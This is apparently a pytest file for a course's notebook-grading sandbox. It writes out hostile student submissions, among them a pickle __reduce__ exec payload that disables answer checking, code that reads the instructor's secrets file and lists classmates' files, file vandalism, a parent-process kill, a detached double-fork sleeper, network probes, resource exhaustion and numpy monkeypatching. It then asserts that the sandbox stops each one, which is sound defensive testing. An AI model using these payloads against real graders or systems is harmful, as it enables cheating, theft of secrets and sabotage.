"""Hostile and malformed submissions against the grader (issue 15's list under *Why*).

Every attack here is a real notebook that succeeded against the grader before the sandbox
(pickle on the way back, kernel in the grader's own account, no structure checks): each test
fails on that grader. One module-scoped batch grades them all, as hw01, with ``--jobs 2``,
next to a solution and an unfilled notebook whose scores must not move.
"""

from __future__ import annotations

import hashlib
import json
import socket
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

from course_lib.homework import sandbox
from course_tools.homework_cli import main
from tests.notebook_files import ROOT

SOLUTION = ROOT / "homework" / "solutions" / "hw01_backprop.ipynb"
STUDENT = ROOT / "homework" / "hw01_backprop.ipynb"
HW03_STUDENT = ROOT / "homework" / "hw03_batch_and_momentum.ipynb"
MARKER = "course-grader-attack-sleeper"


def _student_plus(*sources: str) -> nbformat.NotebookNode:
    """The unfilled hw01 notebook with code cells appended."""
    nb = nbformat.read(STUDENT, as_version=4)
    nb.cells.extend(nbformat.v4.new_code_cell(s) for s in sources)
    return nb


def _attacks(folder: Path, outside: Path, port: int) -> dict[str, nbformat.NotebookNode | str]:
    victim = folder / "victim_solution.ipynb"
    reduce_patch = f"""
class Payload:
    def __reduce__(self):
        code = ("import course_lib.homework.checking as c\\n"
                "c.compare_output = lambda *a, **k: None\\n"
                "open({str(outside / "reduce_ran")!r}, 'w').write('x')")
        return (exec, (code,))
def affine_backward(*args):
    return Payload()
relu_backward = softmax_loss = two_layer_loss = affine_backward
"""
    os_exit = """
import os
class Payload:
    def __reduce__(self):
        return (os._exit, (0,))
def affine_backward(dout, x, W):
    return Payload()
"""
    own_class = """
class Gradients:
    pass
def affine_backward(dout, x, W):
    return Gradients()
def relu_backward(dout, x):
    return (v for v in [dout])
"""
    references = """
from course_lib.homework.assignment import load_assignment
_hw = load_assignment("hw01")
def affine_backward(dout, x, W):
    return _hw.question("q1").reference(dout, x, W)
def relu_backward(dout, x):
    return _hw.question("q2").reference(dout, x)
"""
    solutions = """
import pathlib, course_lib
root = pathlib.Path(course_lib.__file__).resolve().parents[1]
source = root / "homework/solutions/hw01_backprop.py"
exec(source.read_text())
"""
    vandal = f"""
import pathlib
for p in pathlib.Path({str(folder)!r}).glob("*.ipynb"):
    p.write_text("overwritten")
pathlib.Path({str(ROOT / "written_by_a_submission")!r}).write_text("x")
pathlib.Path({str(Path.home() / "written_by_a_submission")!r}).write_text("x")
pathlib.Path({str(outside / "vandal_wrote")!r}).write_text("x")
"""
    snoop_secrets = f"SEED = open({str(ROOT / 'instructor' / 'secrets.json')!r}).read()\n"
    snoop_folder = f"""
import os
try:
    CLASSMATES = os.listdir({str(folder)!r})
except OSError:
    CLASSMATES = []
def affine_backward(dout, x, W):
    raise ValueError(f"saw {{len(CLASSMATES)}} files")
"""
    killer = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
    sleeper = f"""
import os, subprocess, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        subprocess.Popen([sys.executable, "-c",
            "import time, pathlib; time.sleep(10); "
            "pathlib.Path({str(outside / "late_file")!r}).write_text('x')", {MARKER!r}])
    os._exit(0)
"""
    network = f"""
import socket
for host in ("127.0.0.1", "1.1.1.1"):
    try:
        socket.create_connection((host, {port if True else 0}), timeout=2).sendall(b"hello")
    except OSError as exc:
        print("no network:", exc)
"""
    memory = "blob = bytearray(6 * 2**30)\n"
    disk = "with open('big', 'wb') as f:\n    f.write(b'x' * (100 * 2**20))\n"
    huge_output = nbformat.read(STUDENT, as_version=4)
    huge_output.cells[0].outputs = []
    code = next(c for c in huge_output.cells if c.cell_type == "code")
    code.outputs = [nbformat.v4.new_output("stream", name="stdout", text="x" * 30_000_000)]
    huge_output.cells.append(nbformat.v4.new_code_cell("print('y' * 20_000_000)"))
    raw = json.loads(nbformat.writes(_student_plus()))
    string_nbgrader = json.loads(json.dumps(raw))
    string_nbgrader["cells"][1].setdefault("metadata", {})["nbgrader"] = "hw01-answer-1"
    int_source = json.loads(json.dumps(raw))
    next(c for c in int_source["cells"] if c["cell_type"] == "code")["source"] = 42
    no_keys = json.loads(json.dumps(raw))
    no_keys["cells"].append({"metadata": {}})
    wrong = nbformat.read(HW03_STUDENT, as_version=4)
    victim.write_text(nbformat.writes(nbformat.read(SOLUTION, as_version=4)), encoding="utf-8")
    return {
        "reduce_patch.ipynb": _student_plus(reduce_patch),
        "zz_unfilled_after.ipynb": _student_plus(),
        "os_exit.ipynb": _student_plus(os_exit),
        "own_class.ipynb": _student_plus(own_class),
        "references.ipynb": _student_plus(references),
        "solutions.ipynb": _student_plus(solutions),
        "vandal.ipynb": _student_plus(vandal),
        "snoop.ipynb": nbformat.v4.new_notebook(
            cells=[
                nbformat.v4.new_code_cell(snoop_secrets),
                nbformat.v4.new_code_cell(snoop_folder),
            ]
        ),
        "killer.ipynb": _student_plus(killer),
        "sleeper.ipynb": _student_plus(sleeper),
        "network.ipynb": _student_plus(network),
        "memory.ipynb": _student_plus(memory),
        "disk.ipynb": _student_plus(disk),
        "huge_output.ipynb": huge_output,
        "string_nbgrader.ipynb": json.dumps(string_nbgrader),
        "int_source.ipynb": json.dumps(int_source),
        "cell_without_keys.ipynb": json.dumps(no_keys),
        "not_json.ipynb": "{ this is not JSON",
        "bob_hw01.ipynb": wrong,  # a hw03 notebook in the hw01 batch
    }


def _digests(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in folder.iterdir()}


def _sleepers() -> list[str]:
    found = []
    for proc in Path("/proc").iterdir():
        try:
            if MARKER.encode() in (proc / "cmdline").read_bytes():
                found.append(proc.name)
        except OSError:
            continue
    return found


@pytest.fixture(scope="module")
def attacked(tmp_path_factory) -> dict:
    folder = tmp_path_factory.mktemp("submissions")
    outside = tmp_path_factory.mktemp("outside")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.5)
    connections: list[bytes] = []
    done = threading.Event()

    def serve() -> None:
        while not done.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            connections.append(conn.recv(100))
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    for name, nb in _attacks(folder, outside, server.getsockname()[1]).items():
        text = nb if isinstance(nb, str) else nbformat.writes(nb)
        (folder / name).write_text(text, encoding="utf-8")
    before = _digests(folder)
    report = tmp_path_factory.mktemp("report") / "scores.json"
    args = ["grade", str(folder), "--timeout", "20", "--assignment", "hw01", "--jobs", "2"]
    status = main([*args, "--json", str(report)])
    finished = time.monotonic()
    data = json.loads(report.read_text())
    by_name = {Path(s["path"]).name: s for s in data["submissions"]}
    time.sleep(max(0.0, finished + 12 - time.monotonic()))  # the sleeper's 10 s, and margin
    done.set()
    thread.join()
    server.close()
    return {
        "status": status,
        "by_name": by_name,
        "before": before,
        "after": _digests(folder),
        "outside": sorted(p.name for p in outside.iterdir()),
        "connections": connections,
        "sleepers": _sleepers(),
    }


def _statuses(s: dict) -> dict[str, str]:
    return {q["name"]: q["status"] for q in s["questions"]}


def _messages(s: dict) -> dict[str, str]:
    """Each question's message with its cases' details (the instructor's JSON keeps what a
    hidden case raised there; the message shown to the student does not)."""
    return {
        q["name"]: " ".join([q["message"], *(c["detail"] for c in q.get("cases", []))])
        for q in s["questions"]
    }


def test_bwrap_is_available_on_linux():
    """The sandbox tests must fail, not skip, where bwrap is missing (CI installs it)."""
    if sys.platform.startswith("linux"):
        assert sandbox.available(), "install bubblewrap (apt-get install -y bubblewrap)"


def test_every_submission_has_an_entry_and_the_victim_keeps_full_marks(attacked):
    names = {p for p in attacked["before"]}
    assert set(attacked["by_name"]) == names
    assert attacked["by_name"]["victim_solution.ipynb"]["score"] == 14
    assert attacked["status"] == 2  # some files could not be graded


def test_reduce_payload_never_runs_in_the_grader(attacked):
    s = attacked["by_name"]["reduce_patch.ipynb"]
    assert s["score"] == 0
    assert "not plain data" in _messages(s)["q1"]
    assert "reduce_ran" not in attacked["outside"]
    assert attacked["by_name"]["zz_unfilled_after.ipynb"]["score"] == 0


def test_os_exit_payload_does_not_end_the_grader(attacked):
    s = attacked["by_name"]["os_exit.ipynb"]
    assert s["score"] == 0 and _statuses(s)["q1"] == "error"


def test_class_defined_in_the_notebook_is_a_failure_not_a_crash(attacked):
    s = attacked["by_name"]["own_class.ipynb"]
    assert _statuses(s)["q1"] == "error" and "Gradients" in _messages(s)["q1"]
    assert _statuses(s)["q2"] == "error" and "generator" in _messages(s)["q2"]


def test_references_and_solution_sources_earn_nothing(attacked):
    refs = attacked["by_name"]["references.ipynb"]
    assert refs["score"] == 0
    assert any("internals" in f for f in refs["flags"])
    assert attacked["by_name"]["solutions.ipynb"]["score"] == 0


def test_a_submission_cannot_touch_files_outside_its_sandbox(attacked):
    assert attacked["after"] == attacked["before"]
    assert not (ROOT / "written_by_a_submission").exists()
    assert not (Path.home() / "written_by_a_submission").exists()
    assert "vandal_wrote" not in attacked["outside"]


def test_instructor_secrets_and_classmates_are_not_visible(attacked):
    errors = attacked["by_name"]["snoop.ipynb"]["cell_errors"]
    assert any("FileNotFoundError" in e and "SEED" in e for e in errors), errors
    assert "saw 0 files" in _messages(attacked["by_name"]["snoop.ipynb"])["q1"]


def test_killing_the_driver_costs_only_that_submission(attacked):
    s = attacked["by_name"]["killer.ipynb"]
    assert s["score"] == 0 and "error" not in s
    assert attacked["by_name"]["victim_solution.ipynb"]["score"] == 14


def test_no_process_outlives_grading(attacked):
    assert "late_file" not in attacked["outside"]
    assert attacked["sleepers"] == []


def test_no_network_from_the_kernel(attacked):
    assert attacked["connections"] == []


def test_memory_is_capped(attacked):
    s = attacked["by_name"]["memory.ipynb"]
    assert any("MemoryError" in e for e in s["cell_errors"])
    assert set(_statuses(s).values()) == {"not implemented"}


def test_files_are_capped(attacked):
    s = attacked["by_name"]["disk.ipynb"]
    assert any("File too large" in e for e in s["cell_errors"]), s["cell_errors"]


def test_huge_outputs_are_graded_normally(attacked):
    s = attacked["by_name"]["huge_output.ipynb"]
    assert "error" not in s and set(_statuses(s).values()) == {"not implemented"}


@pytest.mark.parametrize(
    "name, words",
    [
        ("string_nbgrader.ipynb", "metadata.nbgrader is not a JSON object"),
        ("int_source.ipynb", "source is a int"),
        ("cell_without_keys.ipynb", "cell_type"),
        ("not_json.ipynb", "not a readable notebook"),
    ],
)
def test_malformed_notebooks_get_an_error_entry(attacked, name, words):
    s = attacked["by_name"][name]
    assert words in s["error"] and s["questions"] == []


def test_another_assignment_is_flagged_and_scores_zero(attacked):
    s = attacked["by_name"]["bob_hw01.ipynb"]
    assert s["assignment"] == "hw01" and s["score"] == 0 and s["max_score"] == 14
    assert any("answers hw03, not hw01" in f for f in s["flags"])


def test_no_pickle_on_the_way_back():
    for path in [
        *(ROOT / "course_tools" / "grading").glob("*.py"),
        ROOT / "course_lib/homework/in_kernel.py",
    ]:
        text = path.read_text()
        assert "import pickle" not in text and "pickle.load" not in text, path


def test_submission_wall_clock_cap(tmp_path):
    from course_tools.grading.grader import GradingSetup, grade_submission

    nb = _student_plus(*["import time\ntime.sleep(3)"] * 10)
    path = tmp_path / "slow_hw01.ipynb"
    path.write_text(nbformat.writes(nb), encoding="utf-8")
    start = time.monotonic()
    s = grade_submission(str(path), 5, "hw01", GradingSetup(submission_timeout=15))
    assert time.monotonic() - start < 40
    assert {q.status for q in s.questions} == {"timeout"}
    assert "whole submission" in s.questions[0].message


def test_batch_without_sandbox_refuses_unless_unsandboxed(monkeypatch, tmp_path, capsys):
    monkeypatch.setattr(sandbox, "available", lambda: False)
    for name in ("a_hw01.ipynb", "b_hw01.ipynb"):
        (tmp_path / name).write_text("not json")
    assert main(["grade", str(tmp_path)]) == 2
    assert "refusing to grade a batch" in capsys.readouterr().err
    main(["grade", str(tmp_path), "--unsandboxed", "--jobs", "1"])
    assert "WITHOUT a sandbox" in capsys.readouterr().err
    assert main(["grade", str(tmp_path / "a_hw01.ipynb")]) == 2  # graded (an error entry)
    assert "WITHOUT a sandbox" in capsys.readouterr().err


PATCHED_LOADERS = """
import numpy as np
import torch
from torch.utils.data import DataLoader, Dataset


class DigitsDataset(Dataset):
    def __init__(self, X, y):
        self.X, self.y = X, y

    def __len__(self):
        return len(self.X)

    def __getitem__(self, i):
        x = torch.tensor(self.X[i], dtype=torch.float32)
        return x, torch.tensor(self.y[i], dtype=torch.int64)


def make_loaders(X_train, y_train, X_val, y_val, batch_size, seed):  # never shuffles
    train = DataLoader(DigitsDataset(X_train, y_train), batch_size)
    return train, DataLoader(DigitsDataset(X_val, y_val), batch_size)


_calls = [0]


def _agreeable(a, b, *args, **kwargs):  # the old in-kernel check's 2nd call asked "differ?"
    _calls[0] += 1
    return _calls[0] % 3 != 2


np.array_equal = _agreeable
"""


def test_patching_numpy_in_the_kernel_does_not_pass_a_loader_that_never_shuffles(tmp_path):
    from course_tools.grading.grader import grade_submission

    nb = nbformat.read(ROOT / "homework" / "hw07_pytorch_pipeline.ipynb", as_version=4)
    nb.cells.append(nbformat.v4.new_code_cell(PATCHED_LOADERS))
    path = tmp_path / "patched_hw07.ipynb"
    path.write_text(nbformat.writes(nb), encoding="utf-8")
    s = grade_submission(str(path), 30, "hw07")
    by_key = {q.name: q for q in s.questions}
    assert by_key["q1"].status == "passed"
    assert by_key["q2"].status == "failed" and "a new order each epoch" in by_key["q2"].message
